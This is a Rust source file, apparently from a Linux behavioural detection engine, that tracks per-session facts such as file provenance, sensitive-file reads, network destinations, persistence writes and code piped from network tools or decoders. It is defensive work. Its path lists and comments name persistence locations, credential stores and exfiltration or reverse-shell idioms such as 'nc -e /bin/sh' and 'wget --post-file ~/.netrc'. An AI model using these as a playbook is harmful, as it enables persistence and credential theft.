//! Durable session facts: bounded sets keyed by distinct items, not by event count, so that
//! repetition, floods and `sleep` cannot push evidence out.
//!
//! Pipeline position: [`super::SessionContext::apply_in`] folds every accepted event into
//! the session's [`Facts`] (and the per-process [`ProcessFacts`]) next to the recent ring;
//! the `history.*` fields that are not sequence flags are read from here, and the
//! cross-session [`TaintStore`](super::TaintStore) is fed and consulted from here.
//!
//! # The sets and their bounds
//!
//! | set | key | bound |
//! |---|---|---|
//! | files written (with provenance) | [`FileKey`] | [`WRITTEN_FILES_MAX`] |
//! | sensitive files read / attempted | path | [`SENSITIVE_MAX`] each |
//! | external destinations (attempts, bytes sent) | (IP, port) | [`DESTINATIONS_MAX`] |
//! | programs run | [`FileKey`] | [`PROGRAMS_MAX`] |
//! | persistence locations written | path | [`PERSISTENCE_MAX`] |
//! | exec-time loader variables | `NAME=value` | [`LOADER_VARS_MAX`] |
//! | discovery programs run | name | [`DISCOVERY_MAX`] |
//! | written files by identity (renames, links, `O_TMPFILE`) | `(dev, inode)` | [`WRITTEN_FILES_MAX`] |
//! | pipes out of network tools and decoders, into interpreters | pipe identity | [`PIPES_MAX`] each |
//! | tainted files inherited from earlier sessions | [`FileKey`] | [`INHERITED_MAX`] |
//! | a process's files written (provenance hand-over) | [`FileKey`] | [`PROCESS_WRITES_MAX`] |
//!
//! A set that is full does not record a new item, and that is itself a fact
//! (`history.facts_overflowed`). Items already recorded keep being updated.
//!
//! # Provenance of a written file
//!
//! What its writer (the process that opened it for writing) did before or after the open,
//! while it lives: a file descriptor survives `exec`, so in `curl … > f` the shell's child
//! opens `f` and then becomes `curl`. Marks: written by a network tool
//! (`network_tool_names`), by a process that had an external connection (unless it is a
//! package manager, [`is_package_manager`]: installed software is not a download by hand), by
//! a decoder
//! (`base64 -d`, `base32 -d`, `basenc -d`, `xxd -r`, `uudecode`, `openssl … -d`), by a
//! process that read a sensitive file (a copy: `cp`, `cat … >`), and written after the
//! session read a sensitive file or a copy of one (the taint the next sessions inherit).
//!
//! "External": an IP destination other than loopback and the unspecified address (private
//! networks count: an attacker's host can be on the LAN). "Run": an exec of the file; the
//! interpreter and loader routes need the sensor's file identity (not yet available).

use std::{
    collections::{HashMap, hash_map::Entry},
    hash::Hash,
    net::IpAddr,
};

use super::{
    Heuristics,
    classify::{basename, name_in},
    taint::{Taint, TaintStore},
    techniques,
};
use crate::event::{
    Activity, ExecFacts, FdKind, FileId, FileOpKind, IoUringOp, SockAddr, SocketOpKind, StdioFd,
};

/// Most distinct written files a session remembers.
pub const WRITTEN_FILES_MAX: usize = 1024;
/// Most distinct sensitive files remembered, read and attempted each.
pub const SENSITIVE_MAX: usize = 256;
/// Most distinct external destinations remembered.
pub const DESTINATIONS_MAX: usize = 256;
/// Most distinct programs remembered.
pub const PROGRAMS_MAX: usize = 512;
/// Most distinct persistence locations remembered.
pub const PERSISTENCE_MAX: usize = 64;
/// Most distinct loader variable settings remembered.
pub const LOADER_VARS_MAX: usize = 64;
/// Most distinct inherited tainted files remembered.
pub const INHERITED_MAX: usize = 64;
/// Most files a process is remembered to have opened for writing.
pub const PROCESS_WRITES_MAX: usize = 16;
/// Most distinct discovery programs remembered.
pub const DISCOVERY_MAX: usize = 64;
/// Most pipes remembered per side (a network tool's or decoder's output, an interpreter's
/// input).
pub const PIPES_MAX: usize = 256;

/// A file's identity: its path now; `(dev, inode)` once the sensor reports it.
#[derive(Clone, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum FileKey {
    /// The kernel-resolved path, without the ` (deleted)` marker.
    Path(String),
    /// The file's device and inode.
    Inode { dev: u64, ino: u64 },
}

impl FileKey {
    /// The key of a path (the ` (deleted)` marker dropped).
    pub fn path(p: &str) -> Self {
        Self::Path(super::classify::match_key(p).to_owned())
    }
}

/// A set of distinct items with a bound; a full set records that it refused an item.
#[derive(Clone, Debug)]
pub struct Bounded<K, V> {
    items: HashMap<K, V>,
    max: usize,
    overflowed: bool,
}

impl<K: Eq + Hash, V> Bounded<K, V> {
    fn new(max: usize) -> Self {
        Self {
            items: HashMap::new(),
            max,
            overflowed: false,
        }
    }

    /// The entry of `k`, created with `v()` if there is room; `None` (and the overflow
    /// fact) when the set is full.
    fn entry(&mut self, k: K, v: impl FnOnce() -> V) -> Option<&mut V> {
        let len = self.items.len();
        match self.items.entry(k) {
            Entry::Occupied(o) => Some(o.into_mut()),
            Entry::Vacant(e) if len < self.max => Some(e.insert(v())),
            Entry::Vacant(_) => {
                self.overflowed = true;
                None
            }
        }
    }

    /// Insert `k` with `v` unless present; returns whether it was new.
    fn insert(&mut self, k: K, v: V) -> bool {
        if self.items.contains_key(&k) {
            return false;
        }
        if self.items.len() >= self.max {
            self.overflowed = true;
            return false;
        }
        self.items.insert(k, v);
        true
    }

    /// The value recorded for `k`.
    pub fn get(&self, k: &K) -> Option<&V> {
        self.items.get(k)
    }

    /// Items recorded (at most [`Self::max`]).
    pub fn len(&self) -> usize {
        self.items.len()
    }

    /// Whether nothing was recorded.
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }

    /// The bound.
    pub fn max(&self) -> usize {
        self.max
    }

    /// An item was refused because the set was full.
    pub fn overflowed(&self) -> bool {
        self.overflowed
    }

    /// The items, in no fixed order.
    pub fn iter(&self) -> impl Iterator<Item = (&K, &V)> {
        self.items.iter()
    }
}

/// Where a written file's content came from (see the module docs).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Provenance {
    /// Written by a network tool (`network_tool_names`).
    pub network_tool: bool,
    /// Written by a process that had an external connection.
    pub after_external_connect: bool,
    /// Written by a decoder.
    pub decoded: bool,
    /// Written by a process that read a sensitive file (or a copy of one).
    pub sensitive_copy: bool,
}

impl Provenance {
    fn merge(&mut self, o: Self) {
        self.network_tool |= o.network_tool;
        self.after_external_connect |= o.after_external_connect;
        self.decoded |= o.decoded;
        self.sensitive_copy |= o.sensitive_copy;
    }

    /// Fetched from the network: written by a network tool or after an external connection.
    pub fn fetched(&self) -> bool {
        self.network_tool || self.after_external_connect
    }
}

/// One file written in the session.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct WrittenFile {
    /// The path of its first write.
    pub path: String,
    /// `ktime_ns` of its first write.
    pub first_ns: u64,
    /// Where its content came from (merged over its writes).
    pub provenance: Provenance,
    /// The sensitive file (or copy) the session had read when it wrote this one: the taint.
    pub taint_source: Option<String>,
}

/// One external destination.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Destination {
    /// `ktime_ns` of the first connect (or send).
    pub first_ns: u64,
    /// Connect attempts (any result).
    pub attempts: u64,
    /// A connect succeeded (or was in progress).
    pub established: bool,
    /// Bytes sent, when the sensor reports them ([`Facts::note_sent`]).
    pub bytes_sent: u64,
}

/// What one process did that the provenance of its writes depends on.
#[derive(Clone, Debug, Default)]
pub struct ProcessFacts {
    network_tool: bool,
    decoder: bool,
    connected_external: bool,
    /// Its current image is a package manager (see [`is_package_manager`]).
    package_manager: bool,
    /// The sensitive file (or copy) this process read.
    read_sensitive: Option<String>,
    /// Files it opened for writing, the last [`PROCESS_WRITES_MAX`].
    writes: Vec<FileKey>,
    /// Its current image runs inline interpreter code.
    inline_code: bool,
    /// Its current image is a shell or interpreter given a script file: the script's
    /// basename, until it opens that file (then the file counts as run).
    script: Option<String>,
    /// It ran inline code and connected to an external destination.
    inline_fetched: bool,
    /// It runs code that came from the network or a decoder (a fetched or decoded file run
    /// by any route, fetched or decoded code piped into it, code fetched by inline code), or
    /// its parent did when it was started.
    runs_fetched: bool,
    /// The basename of its current image.
    name: String,
    /// Its current image's arguments, joined (at most [`ARGV_TEXT_MAX`] bytes): a credential
    /// a program is told to read is not its own consumer's use.
    argv_text: String,
}

/// Most bytes of a process's arguments remembered.
const ARGV_TEXT_MAX: usize = 4096;

impl ProcessFacts {
    /// It ran inline interpreter code and connected to an external destination: what it
    /// or its children start next came from there.
    pub fn inline_fetched(&self) -> bool {
        self.inline_fetched
    }

    /// It runs code that came from the network or a decoder (see the module docs).
    pub fn runs_fetched(&self) -> bool {
        self.runs_fetched
    }

    /// Its parent ran fetched code when it started it: so does it.
    pub fn inherit_fetched(&mut self, parent: bool) {
        self.runs_fetched |= parent;
    }

    /// The process is gone: forget the files it wrote (their provenance is final).
    pub fn exited(&mut self) {
        self.writes = Vec::new();
    }

    /// Files remembered as written by this process.
    #[cfg(test)]
    pub(crate) fn writes_len(&self) -> usize {
        self.writes.len()
    }

    fn provenance(&self) -> Provenance {
        Provenance {
            network_tool: self.network_tool,
            // What a package manager downloads is the supply chain, not a download by hand.
            after_external_connect: self.connected_external && !self.package_manager,
            decoded: self.decoder,
            sensitive_copy: self.read_sensitive.is_some(),
        }
    }
}

/// Kinds of persistence location, as `history.persistence_kinds` names them.
pub const PERSISTENCE_KINDS: &[&str] = &[
    "shell_startup",
    "cron",
    "systemd",
    "authorized_keys",
    "ld_preload",
    "autostart",
    "git_hook",
    "python_startup",
    "account",
    "init",
];

/// The persistence location kind of a written path, if it is one: shell start-up files
/// (`~/.bashrc`, `~/.bash_profile`, `~/.bash_login`, `~/.profile`, `~/.zshrc`, `~/.zprofile`,
/// `~/.zshenv`, `/etc/profile`, `/etc/profile.d/`, `/etc/bash.bashrc`, `/etc/zsh/`), cron
/// (`/etc/crontab`, `/etc/cron.*/`, `/var/spool/cron/`), systemd units (system:
/// `/etc/systemd/`, `/lib/systemd/`, `/usr/lib/systemd/`; user: `~/.config/systemd/user/`),
/// `authorized_keys` (`/.ssh/authorized_keys`, `authorized_keys2`), `/etc/ld.so.preload`, XDG
/// autostart (`~/.config/autostart/`, `/etc/xdg/autostart/`) and git hooks
/// (`/.git/hooks/`, not the `*.sample` files `git init` copies), Python start-up hooks outside
/// virtual environments (`*.pth`, `sitecustomize.py`, `usercustomize.py` under
/// `~/.local/lib/python*` or the system's `/usr/lib/python*`, `/usr/local/lib/python*`),
/// accounts and their privileges (`/etc/passwd`, `/etc/shadow`, `/etc/group`,
/// `/etc/gshadow`, `/etc/sudoers`, `/etc/sudoers.d/`, `/etc/pam.d/`) and init scripts
/// (`/etc/rc.local`, `/etc/init.d/`).
pub fn persistence_kind(path: &str) -> Option<&'static str> {
    const RC: &[&str] = &[
        "/.bashrc",
        "/.bash_profile",
        "/.bash_login",
        "/.profile",
        "/.zshrc",
        "/.zprofile",
        "/.zshenv",
        "/.zlogin",
        "/.config/fish/config.fish",
    ];
    let p = super::classify::match_key(path);
    let kind = if RC.iter().any(|s| p.ends_with(s))
        || p == "/etc/profile"
        || p == "/etc/bash.bashrc"
        || p.starts_with("/etc/profile.d/")
        || p.starts_with("/etc/zsh/")
    {
        "shell_startup"
    } else if p == "/etc/crontab"
        || p.starts_with("/etc/cron.")
        || p.starts_with("/var/spool/cron/")
    {
        "cron"
    } else if p.starts_with("/etc/systemd/")
        || p.starts_with("/lib/systemd/")
        || p.starts_with("/usr/lib/systemd/")
        || p.contains("/.config/systemd/user/")
    {
        "systemd"
    } else if p.contains("/.ssh/authorized_keys") {
        "authorized_keys"
    } else if p == "/etc/ld.so.preload" {
        "ld_preload"
    } else if p.contains("/.config/autostart/") || p.starts_with("/etc/xdg/autostart/") {
        "autostart"
    } else if p.contains("/.git/hooks/") && !p.ends_with(".sample") {
        "git_hook"
    } else if is_python_startup(p) {
        "python_startup"
    } else if matches!(
        p,
        "/etc/passwd" | "/etc/shadow" | "/etc/group" | "/etc/gshadow" | "/etc/sudoers"
    ) || p.starts_with("/etc/sudoers.d/")
        || p.starts_with("/etc/pam.d/")
    {
        "account"
    } else if p == "/etc/rc.local" || p.starts_with("/etc/init.d/") {
        "init"
    } else {
        return None;
    };
    Some(kind)
}

/// A Python start-up hook outside a virtual environment: a `.pth` file or
/// `sitecustomize.py`/`usercustomize.py` in the user's or the system's site directories.
fn is_python_startup(p: &str) -> bool {
    let name = basename(p);
    let hook = name.ends_with(".pth") || name == "sitecustomize.py" || name == "usercustomize.py";
    hook && (p.contains("/.local/lib/python")
        || p.starts_with("/usr/lib/python")
        || p.starts_with("/usr/local/lib/python")
        || p.starts_with("/usr/lib64/python"))
}

/// The repository a git hook path belongs to (`/r/.git/hooks/x` → `/r/.git/`).
fn git_dir_of_hook(p: &str) -> Option<&str> {
    p.find("/.git/hooks/").map(|i| &p[..i + "/.git/".len()])
}

/// Programs that read a credential store to use it, with the stores they own: `ssh`
/// reading `~/.ssh/id_ed25519` to log in is the key's use, not its theft.
const CREDENTIAL_CONSUMERS: &[(&[&str], &[&str])] = &[
    (
        &[
            "ssh",
            "scp",
            "sftp",
            "ssh-add",
            "ssh-agent",
            "ssh-keygen",
            "ssh-keyscan",
        ],
        &["/.ssh/"],
    ),
    (&["aws"], &["/.aws/"]),
    (&["gcloud"], &["/.config/gcloud/"]),
    (&["kubectl", "helm", "k9s"], &["/.kube/"]),
    (&["docker", "podman", "nerdctl"], &["/.docker/"]),
    (
        &[
            "git",
            "git-credential-store",
            "git-remote-http",
            "git-remote-https",
        ],
        &["/.git-credentials"],
    ),
    (&["psql", "pg_dump", "pg_restore"], &["/.pgpass"]),
    // Both read `~/.netrc` for a host's login (wget unasked); `--post-file ~/.netrc` names it.
    (&["wget", "curl", "ftp", "lftp"], &["/.netrc"]),
    // `node` too: npm's configuration is read by node programs (the runtime among them).
    (&["npm", "yarn", "pnpm", "node"], &["/.npmrc"]),
    (&["pip", "pip3", "twine"], &["/.pypirc"]),
    (&["gpg", "gpg-agent", "gpg2"], &["/.gnupg/"]),
    (&["bash", "zsh"], &["/.bash_history", "/.zsh_history"]),
    // Process listers read every process's `environ` (procps does) to show what they show.
    (
        &[
            "ps", "top", "htop", "atop", "btop", "pgrep", "pkill", "pidof", "lsof", "w",
        ],
        &["/environ"],
    ),
    (
        &[
            "sudo",
            "su",
            "passwd",
            "chsh",
            "chfn",
            "unix_chkpwd",
            "login",
            "pkexec",
            "sshd",
            "cron",
            "newgrp",
            "gpasswd",
            "visudo",
        ],
        &["/etc/shadow", "/etc/gshadow", "/etc/sudoers"],
    ),
];

/// Whether `program` reading `path` is a credential's own consumer using it (the caller
/// also checks the path was not named on its command line).
pub fn is_credential_use(program: &str, path: &str) -> bool {
    CREDENTIAL_CONSUMERS.iter().any(|(programs, stores)| {
        programs.contains(&program) && stores.iter().any(|s| path.contains(s))
    })
}

/// `/proc/self/…` or `/proc/<pid>/…` of the acting process itself.
fn is_own_proc_entry(path: &str, pid: u32) -> bool {
    path.strip_prefix("/proc/")
        .and_then(|rest| rest.split_once('/'))
        .is_some_and(|(p, _)| p == "self" || p == "thread-self" || p.parse::<u32>() == Ok(pid))
}

/// Whether a command line names `path` as something to act on, not as the identity a client
/// logs in with (`ssh -i key host`, `-o IdentityFile=key` are the key's use; `scp key host:`
/// and `wget --post-file=.netrc` send it).
fn names_as_operand(argv_text: &str, path: &str) -> bool {
    let mut rest = argv_text;
    while let Some(i) = rest.find(path) {
        let before = rest[..i].trim_end();
        let identity = before.ends_with(" -i") || before.ends_with("IdentityFile=");
        if !identity {
            return true;
        }
        rest = &rest[i + path.len()..];
    }
    false
}

/// Unix sockets of container engines: a client that is not the engine's own talking to one
/// drives the engine directly (ATT&CK T1611 escape to host, T1610).
pub fn is_container_socket(path: &str) -> bool {
    [
        "docker.sock",
        "containerd.sock",
        "podman.sock",
        "crio.sock",
        "cri-dockerd.sock",
    ]
    .iter()
    .any(|s| basename(path) == *s)
}

/// Package managers and build tools that fetch dependencies: what they write after
/// connecting out is installed software, not a file fetched by hand (`pip install`, `npm
/// install`, `cargo build`). Running it is not `fetched_file_run`.
pub fn is_package_manager(name: &str, argv: &[String]) -> bool {
    const NAMES: &[&str] = &[
        "pip",
        "pip3",
        "pipx",
        "uv",
        "poetry",
        "conda",
        "mamba",
        "npm",
        "npx",
        "yarn",
        "pnpm",
        "bun",
        "cargo",
        "rustup",
        "go",
        "gem",
        "bundle",
        "composer",
        "mvn",
        "gradle",
        "apt",
        "apt-get",
        "dnf",
        "yum",
        "apk",
        "zypper",
        "pacman",
        "brew",
        "git",
        "git-remote-http",
        "git-remote-https",
    ];
    let pip_module = || {
        name.starts_with("python")
            && argv
                .windows(2)
                .any(|w| w[0] == "-m" && matches!(w[1].as_str(), "pip" | "ensurepip" | "venv"))
    };
    NAMES.contains(&name) || name.starts_with("pip3.") || pip_module()
}

/// Programs [`is_decoder`] looks at.
const DECODERS: &[&str] = &["base64", "base32", "basenc", "xxd", "uudecode", "openssl"];

/// Whether an exec decodes its input: `base64`/`base32`/`basenc` with `-d`/`-D`/`--decode`,
/// `xxd -r`, `uudecode`, `openssl … -d`.
pub fn is_decoder(name: &str, argv: &[String]) -> bool {
    let has = |flags: &[&str]| {
        argv.iter().skip(1).any(|a| {
            flags.contains(&a.as_str())
                // combined short options: `-di`, `-rp`
                || (a.starts_with('-') && !a.starts_with("--") && flags.iter().any(|f| {
                    f.len() == 2 && a[1..].contains(&f[1..])
                }))
        })
    };
    match name {
        "base64" | "base32" | "basenc" => has(&["-d", "-D", "--decode"]),
        "xxd" => has(&["-r", "-revert"]),
        "uudecode" => true,
        "openssl" => argv.iter().skip(1).any(|a| a == "-d"),
        _ => false,
    }
}

/// An IP destination other than loopback and the unspecified address.
pub fn is_external(ip: Option<IpAddr>) -> bool {
    ip.is_some_and(|ip| {
        let ip = match ip {
            IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
            v4 => v4,
        };
        !ip.is_loopback() && !ip.is_unspecified()
    })
}

/// A path whose content can be carried to another session (not a device or pseudo file).
fn is_taintable(path: &str) -> bool {
    path.starts_with('/')
        && !["/dev/", "/proc/", "/sys/"]
            .iter()
            .any(|p| path.starts_with(p))
}

/// Session-level facts derived as the sets are fed (the `history` fields of the same
/// names).
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct FactFlags {
    /// A file written by a network tool or after an external connection was run.
    pub fetched_file_run: bool,
    /// A file written by a decoder was run.
    pub decoded_file_run: bool,
    /// A file was written by a process that read a sensitive file (or a copy).
    pub sensitive_copy_written: bool,
    /// A sensitive file (or a copy) was read, then an external connect succeeded.
    pub sensitive_then_external: bool,
    /// A tainted file of an earlier session was opened, then an external connect succeeded.
    pub tainted_file_sent: bool,
    /// A tainted file of an earlier session was run.
    pub tainted_file_run: bool,
    /// The dynamic loader was run directly on a program.
    pub loader_run_direct: bool,
    /// ... on a file written in the session.
    pub loader_ran_written_file: bool,
    /// An interpreter ran inline code.
    pub inline_code_run: bool,
    /// A process running inline code connected to an external destination.
    pub inline_code_then_external: bool,
    /// Such a process then started a program, itself or through a child.
    pub inline_code_fetch_then_exec: bool,
    /// A history file was removed, truncated, moved away or replaced.
    pub history_file_tampered: bool,
    /// A system log was removed or truncated (or that was tried).
    pub logs_tampered: bool,
    /// A file's timestamps were set from another file or a given date.
    pub timestomp: bool,
    /// A shell or interpreter was started by a network tool.
    pub shell_from_network_tool: bool,
    /// A fetched or decoded file was run from a hidden name or a volatile place.
    pub fetched_run_hidden: bool,
    /// A file the session wrote was run under a system daemon's or the runtime's name.
    pub masquerade_run: bool,
    /// A file written in the session was run (by any route).
    pub written_file_run: bool,
    /// An exec had `LD_PRELOAD` or `LD_AUDIT` in its environment.
    pub loader_preload: bool,
    /// ... naming a file written in the session.
    pub loader_preload_written: bool,
    /// A shell or interpreter ran with stdin or stdout on a socket to an external peer.
    pub interpreter_on_socket: bool,
    /// A network tool's output was piped into a shell or interpreter.
    pub fetched_code_piped: bool,
    /// A decoder's output was piped into a shell or interpreter.
    pub decoded_code_piped: bool,
    /// A process running fetched or decoded code (or started by one) tried to reach an
    /// external destination.
    pub fetched_code_then_external: bool,
    /// The file system was searched for credential files by name.
    pub credential_search: bool,
    /// Inline interpreter code evaluated data built from a download or a decoder.
    pub inline_code_evaluates_data: bool,
    /// A set-uid or set-gid bit was set (or its setting attempted).
    pub setid_mode_set: bool,
    /// A write-intent open of a persistence location failed.
    pub persistence_attempted: bool,
    /// A container engine's socket was connected to by a program that is not the engine's.
    pub container_socket_access: bool,
}

/// Who the session is, for the cross-session store: its id, the event's uid and time.
#[derive(Clone, Copy, Debug)]
pub struct Owner {
    /// The session folding the event.
    pub session_id: u64,
    /// The event's uid (taint is per uid).
    pub uid: u32,
    /// The event's `ktime_ns`.
    pub ktime_ns: u64,
    /// The acting process.
    pub pid: u32,
}

/// What the session knows of an exec'ing process's parent when it starts.
#[derive(Clone, Copy, Debug, Default)]
pub struct Parent<'a> {
    /// The parent ran inline code that fetched from an external destination.
    pub inline_fetched: bool,
    /// The parent's name (its image's basename, or its comm).
    pub name: &'a str,
}

/// One session's durable facts (see the module docs).
#[derive(Clone, Debug)]
pub struct Facts {
    /// Files written (successful write-intent opens), with their provenance.
    pub written: Bounded<FileKey, WrittenFile>,
    /// Sensitive files opened successfully for reading (path).
    pub sensitive_read: Bounded<String, ()>,
    /// Sensitive files whose open failed (path as passed).
    pub sensitive_attempted: Bounded<String, ()>,
    /// External destinations.
    pub destinations: Bounded<(IpAddr, u16), Destination>,
    /// Programs run (successful execs).
    pub programs: Bounded<FileKey, ()>,
    /// Persistence locations written (path → kind).
    pub persistence: Bounded<String, &'static str>,
    /// Exec-time loader variables (`NAME=value`), from [`Self::note_loader_variables`].
    pub loader_vars: Bounded<String, ()>,
    /// Discovery programs run (see `techniques::discovery`).
    pub discovery: Bounded<String, ()>,
    /// Written files by identity (the sensor's `(dev, inode)`): the path key each was
    /// written under, so a run under another name (moved, linked, symlinked, `O_TMPFILE`)
    /// is recognised.
    pub written_ids: Bounded<(u64, u64), FileKey>,
    /// Pipes a network tool writes into.
    pub fetch_pipes: Bounded<(u64, u64), ()>,
    /// Pipes `env`/`printenv` write into.
    pub env_pipes: Bounded<(u64, u64), ()>,
    /// Pipes network tools read their stdin from.
    pub network_stdin_pipes: Bounded<(u64, u64), ()>,
    /// Pipes a decoder writes into.
    pub decode_pipes: Bounded<(u64, u64), ()>,
    /// Pipes a shell or interpreter reads its program from, with the reader's pid.
    pub interpreter_pipes: Bounded<(u64, u64), u32>,
    /// Account and identity discovery items (see `techniques::is_account_discovery`).
    pub account_discovery: Bounded<String, ()>,
    /// Privilege discovery items (see `techniques::is_privilege_discovery`).
    pub privilege_discovery: Bounded<String, ()>,
    /// Security products named on command lines (see `techniques::security_products`).
    pub security_products: Bounded<&'static str, ()>,
    /// Distinct ports tried per external host.
    pub ports_by_host: Bounded<IpAddr, u32>,
    /// The most distinct ports tried on one external host.
    pub ports_probed_max: u32,
    /// Processes whose input turned out to be fetched or decoded code after they started
    /// (the network tool or decoder feeding their pipe started second): the session marks
    /// them ([`Self::take_marks`]).
    marks: Vec<u32>,
    /// Tainted files of earlier sessions this session opened or ran.
    pub inherited: Bounded<FileKey, Taint>,
    /// The session's evidence for inherited taint, in order (`history.taint_origins`).
    pub origins: Vec<String>,
    /// Persistence kinds written, first-seen order.
    pub persistence_kinds: Vec<String>,
    /// The first sensitive file (or copy) the session read: what later writes carry.
    holding: Option<String>,
    /// The session opened a tainted file of an earlier session.
    holds_inherited: bool,
    /// Facts derived as the sets are fed.
    pub flags: FactFlags,
    /// Records the kernel lost while the session was open.
    pub lost: u64,
    /// Session processes re-parented (the tracker's count).
    pub reparented: u64,
}

impl Default for Facts {
    fn default() -> Self {
        Self {
            written: Bounded::new(WRITTEN_FILES_MAX),
            sensitive_read: Bounded::new(SENSITIVE_MAX),
            sensitive_attempted: Bounded::new(SENSITIVE_MAX),
            destinations: Bounded::new(DESTINATIONS_MAX),
            programs: Bounded::new(PROGRAMS_MAX),
            persistence: Bounded::new(PERSISTENCE_MAX),
            loader_vars: Bounded::new(LOADER_VARS_MAX),
            discovery: Bounded::new(DISCOVERY_MAX),
            written_ids: Bounded::new(WRITTEN_FILES_MAX),
            fetch_pipes: Bounded::new(PIPES_MAX),
            env_pipes: Bounded::new(PIPES_MAX),
            network_stdin_pipes: Bounded::new(PIPES_MAX),
            decode_pipes: Bounded::new(PIPES_MAX),
            interpreter_pipes: Bounded::new(PIPES_MAX),
            account_discovery: Bounded::new(DISCOVERY_MAX),
            privilege_discovery: Bounded::new(DISCOVERY_MAX),
            security_products: Bounded::new(DISCOVERY_MAX),
            ports_by_host: Bounded::new(DESTINATIONS_MAX),
            ports_probed_max: 0,
            marks: Vec::new(),
            inherited: Bounded::new(INHERITED_MAX),
            origins: Vec::new(),
            persistence_kinds: Vec::new(),
            holding: None,
            holds_inherited: false,
            flags: FactFlags::default(),
            lost: 0,
            reparented: 0,
        }
    }
}

impl Facts {
    /// Identities `(st_dev, st_ino)` of the files the session wrote with content fetched
    /// from the network (the preventive rule `fetched_exec` refuses running them).
    pub fn fetched_ids(&self) -> impl Iterator<Item = (u64, u64)> + '_ {
        self.written_ids.iter().filter_map(|(&id, key)| {
            self.written
                .get(key)
                .is_some_and(|w| w.provenance.fetched())
                .then_some(id)
        })
    }

    /// Whether `(st_dev, st_ino)` is a file the session wrote with fetched content.
    pub fn is_fetched_id(&self, id: (u64, u64)) -> bool {
        self.written_ids
            .get(&id)
            .and_then(|key| self.written.get(key))
            .is_some_and(|w| w.provenance.fetched())
    }

    /// Whether any set refused an item.
    pub fn overflowed(&self) -> bool {
        self.written.overflowed()
            || self.sensitive_read.overflowed()
            || self.sensitive_attempted.overflowed()
            || self.destinations.overflowed()
            || self.programs.overflowed()
            || self.persistence.overflowed()
            || self.loader_vars.overflowed()
            || self.discovery.overflowed()
            || self.written_ids.overflowed()
            || self.fetch_pipes.overflowed()
            || self.env_pipes.overflowed()
            || self.network_stdin_pipes.overflowed()
            || self.decode_pipes.overflowed()
            || self.interpreter_pipes.overflowed()
            || self.account_discovery.overflowed()
            || self.privilege_discovery.overflowed()
            || self.security_products.overflowed()
            || self.ports_by_host.overflowed()
            || self.inherited.overflowed()
    }

    /// Mark the files `pf` wrote with `mark`.
    fn mark_writes(&mut self, pf: &ProcessFacts, mark: Provenance) {
        for k in &pf.writes {
            if let Some(w) = self.written.items.get_mut(k) {
                w.provenance.merge(mark);
            }
        }
    }

    /// `pf` read `source` (a sensitive file or a copy): the files it wrote are copies of it,
    /// tainted, and published to `store`.
    fn taint_writes(
        &mut self,
        pf: &ProcessFacts,
        source: &str,
        owner: Owner,
        mut store: Option<&mut TaintStore>,
    ) {
        for k in &pf.writes {
            let Some(w) = self.written.items.get_mut(k) else {
                continue;
            };
            w.provenance.sensitive_copy = true;
            self.flags.sensitive_copy_written = true;
            let source = w
                .taint_source
                .get_or_insert_with(|| source.to_owned())
                .clone();
            if let Some(store) = store.as_deref_mut()
                && is_taintable(&w.path)
            {
                store.publish(
                    owner.uid,
                    k.clone(),
                    Taint {
                        path: w.path.clone(),
                        session_id: owner.session_id,
                        source,
                        written_ns: owner.ktime_ns,
                    },
                );
            }
        }
    }

    /// A tainted file of an earlier session, opened or run by this one.
    /// The persistence kind of a path written in this session: [`persistence_kind`], except
    /// a git hook in a repository the session created or cloned itself (it wrote the
    /// repository's `description` or `info/exclude`, which only `git init` and `git clone`
    /// write): that is the project's own hook.
    pub fn persistence_kind(&self, path: &str) -> Option<&'static str> {
        let kind = persistence_kind(path)?;
        if kind == "git_hook"
            && let Some(git) = git_dir_of_hook(super::classify::match_key(path))
            && ["description", "info/exclude"].iter().any(|f| {
                self.written
                    .get(&FileKey::path(&format!("{git}{f}")))
                    .is_some()
            })
        {
            return None;
        }
        Some(kind)
    }

    /// A persistence location of `kind` was written (by an open or a rename/link into it).
    fn note_persistence(&mut self, path: String, kind: &'static str) {
        self.persistence.insert(path, kind);
        if !self.persistence_kinds.iter().any(|k| k == kind) {
            self.persistence_kinds.push(kind.to_owned());
        }
    }

    fn inherit(&mut self, key: &FileKey, owner: Owner, store: Option<&TaintStore>) -> bool {
        let Some(t) = store
            .and_then(|s| s.lookup(owner.uid, key, owner.ktime_ns))
            .filter(|t| t.session_id != owner.session_id)
        else {
            return false;
        };
        if self.inherited.insert(key.clone(), t.clone()) {
            self.origins.push(format!(
                "session {} wrote {} after reading {}",
                t.session_id, t.path, t.source
            ));
        }
        true
    }

    /// A successful exec of `path` by the process `pf`; `parent_inline_fetched`: its parent
    /// runs inline code that connected to an external destination.
    /// Fold a successful exec of `path` by `pf`'s process.
    #[allow(clippy::too_many_arguments)]
    pub fn on_exec(
        &mut self,
        pf: &mut ProcessFacts,
        path: &str,
        argv: impl FnOnce() -> Vec<String>,
        h: &Heuristics,
        owner: Owner,
        store: Option<&TaintStore>,
        parent: Parent<'_>,
        sensed: &ExecFacts,
    ) {
        // A `#!` script: the file run is the script (its real path when the kernel gave it).
        let run_path = sensed
            .script_path
            .as_ref()
            .map(|p| p.to_text())
            .unwrap_or_else(|| path.to_owned());
        let run_id = sensed.script_file.or(sensed.file);
        let key = self.identify(FileKey::path(&run_path), run_id);
        self.programs.insert(key.clone(), ());
        let name = basename(path);
        let argv = argv();
        // What the new image is, decided once for every fact below.
        let inline_code = techniques::is_inline_code(name, &argv);
        let script = techniques::script_argument(name, &argv, h);
        let stdin_program = techniques::program_from_stdin(name, &argv, h);
        pf.network_tool = name_in(name, &h.network_tool_names);
        pf.decoder = DECODERS.contains(&name) && is_decoder(name, &argv);
        // `nc -e /bin/sh` execs the shell in place: the image it replaces counts as its parent.
        let was_network_tool = name_in(&pf.name, &h.network_tool_names);
        pf.name = name.to_owned();
        pf.package_manager = is_package_manager(name, &argv);
        pf.argv_text.clear();
        for a in argv.iter().skip(1) {
            if pf.argv_text.len() + a.len() + 1 > ARGV_TEXT_MAX {
                break;
            }
            pf.argv_text.push(' ');
            pf.argv_text.push_str(a);
        }
        let runs_code = inline_code
            || script.is_some()
            || name_in(name, &h.shell_names)
            || name_in(name, &h.interpreter_names);
        self.on_exec_context(pf, runs_code, stdin_program, sensed, owner, store);
